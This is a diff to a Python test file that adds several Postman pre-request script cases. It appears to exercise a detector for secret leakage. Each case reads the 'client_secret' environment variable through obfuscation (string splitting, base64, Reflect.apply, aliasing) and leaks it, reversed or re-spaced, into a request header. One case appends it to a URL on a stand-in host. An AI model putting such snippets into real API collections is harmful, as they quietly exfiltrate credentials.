@@ -128,6 +128,26 @@ def _script_cases() -> list[Case]:
             'pm.request.headers.add({key: "X-L", value: environment["client_secret"].split("").join("-")});',
         ),
         _pre(
+            "script-computed-scope",
+            'var e = pm["envi" + "ronment"]; var n = atob("Y2xpZW50X3NlY3JldA==");'
+            ' pm.request.headers.add({key: "X-E", value: e.get(n).split("").reverse().join("")});',
+        ),
+        _pre(
+            "script-computed-method",
+            'var o = pm; var e = o["envi" + "ronment"]; var v = e["g" + "et"]("client_" + "secret");'
+            ' pm.request.headers.add({key: "X-M", value: v.split("").reverse().join("")});',
+        ),
+        _pre(
+            "script-reflect",
+            'var e = pm.environment; var v = Reflect.apply(e.get, e, ["client_" + "secret"]);'
+            ' pm.request.headers.add({key: "X-R", value: v.split("").join(" ")});',
+        ),
+        _pre(
+            "script-scope-alias",
+            'var s = pm.environment; var k = ["client", "secret"].join("_");'
+            ' pm.request.url = "http://192.0.2.2/c?v=" + s.get(k).split("").reverse().join("");',
+        ),
+        _pre(
             "script-cryptojs-base64",
             f'pm.request.headers.add({{key: "X-J", value: CryptoJS.enc.Base64.stringify(CryptoJS.enc.Utf8.parse({S}))}});',
         ),
